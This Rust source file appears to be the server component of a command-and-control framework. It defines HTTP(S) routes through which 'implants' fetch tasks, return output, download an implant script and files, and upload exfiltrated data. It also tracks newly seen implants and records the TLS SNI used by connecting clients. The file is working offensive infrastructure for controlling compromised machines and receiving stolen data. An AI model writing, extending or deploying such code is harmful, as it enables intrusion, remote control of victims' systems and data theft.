//! C5: the implant HTTP(S) server (spec §4.5). `build_router` wires the six
//! routes onto a shared `AppState`; `axum-server` (with `CertResolver`
//! installed into its `rustls::ServerConfig`) drives the listener itself.
//! `SniCapturingAcceptor` wraps the plain `RustlsAcceptor` so every request
//! can see the SNI the client handshaked with, needed by `/c`'s URL
//! preference order (§4.5.5) and by the request-attribute fields attached to
//! every logged event (§4.7).

pub mod exfil;
pub mod fileserver;
pub mod routes;
pub mod script;

use std::future::Future;
use std::io;
use std::pin::Pin;
use std::sync::Arc;

use axum::routing::any;
use axum::Router;
use axum_server::accept::Accept;
use axum_server::tls_rustls::RustlsAcceptor;
use dashmap::DashSet;
use tokio::io::{AsyncRead, AsyncWrite};
use tower::Layer;
use tower_http::add_extension::AddExtensionLayer;
use tokio_util::sync::CancellationToken;

use crate::bus::Bus;
use crate::paths::Layout;
use crate::state::StateStore;
use crate::tls::CertResolver;
use fileserver::FileServer;

/// Per-handler shared state (spec §4.5's table of routes all read from this).
pub struct AppState {
    pub state: Arc<StateStore>,
    pub bus: Arc<Bus>,
    pub cert_resolver: Arc<CertResolver>,
    pub layout: Layout,
    pub files: FileServer,
    /// `0` disables `/p` entirely (spec §4.5.3: "the route is absent").
    pub exfil_max: u64,
    /// Lock-free new-ID dedup for the `New implant` event (spec §4.6).
    pub seen_ids: DashSet<String>,
    pub shutdown: CancellationToken,
}

impl AppState {
    /// Returns `true` the first time `id` is observed.
    pub fn is_new_implant(&self, id: &str) -> bool {
        self.seen_ids.insert(id.to_string())
    }
}

/// The negotiated SNI for the current TLS connection, if any, and whether
/// the connection is TLS at all. Injected as a request extension by
/// `SniCapturingAcceptor`; absent entirely on the plain HTTP listener.
#[derive(Clone, Default)]
pub struct SniInfo {
    pub sni: Option<String>,
    pub is_tls: bool,
}

impl SniInfo {
    fn tls(sni: Option<String>) -> Self {
        Self { sni, is_tls: true }
    }
}

pub fn build_router(state: Arc<AppState>) -> Router {
    // `:id` never matches an empty path segment, so `/t/`, `/t`, `/o/`, and
    // `/o` would otherwise fall through to `default_file` and serve
    // `index.html` instead of the unconditional empty 200 spec'd for an
    // empty implant ID (§8 Testable Property 3). Route them explicitly
    // before the fallback takes anything else unmatched.
    let mut router = Router::new()
        .route("/t/{id}", any(routes::task))
        .route("/t/", any(routes::empty_ok))
        .route("/t", any(routes::empty_ok))
        .route("/o/{id}", any(routes::output))
        .route("/o/", any(routes::empty_ok))
        .route("/o", any(routes::empty_ok))
        .route("/f/{*rel}", any(routes::file))
        .route("/c", any(routes::implant_script))
        .fallback(any(routes::default_file));

    if state.exfil_max > 0 {
        router = router.route("/p/{*rel}", any(routes::exfil));
    }

    router.with_state(state)
}

/// Wraps `RustlsAcceptor`, attaching the negotiated SNI as a per-connection
/// request extension once the handshake completes.
#[derive(Clone)]
pub struct SniCapturingAcceptor {
    inner: RustlsAcceptor,
}

impl SniCapturingAcceptor {
    pub fn new(inner: RustlsAcceptor) -> Self {
        Self { inner }
    }
}

impl<I, S> Accept<I, S> for SniCapturingAcceptor
where
    I: AsyncRead + AsyncWrite + Unpin + Send + 'static,
    S: Send + 'static,
{
    type Stream = tokio_rustls::server::TlsStream<I>;
    type Service = <AddExtensionLayer<SniInfo> as Layer<S>>::Service;
    type Future = Pin<Box<dyn Future<Output = io::Result<(Self::Stream, Self::Service)>> + Send>>;

    fn accept(&self, stream: I, service: S) -> Self::Future {
        let inner = self.inner.clone();
        Box::pin(async move {
            let (stream, service) = inner.accept(stream, service).await?;
            let sni = stream.get_ref().1.server_name().map(str::to_string);
            let service = AddExtensionLayer::new(SniInfo::tls(sni)).layer(service);
            Ok((stream, service))
        })
    }
}
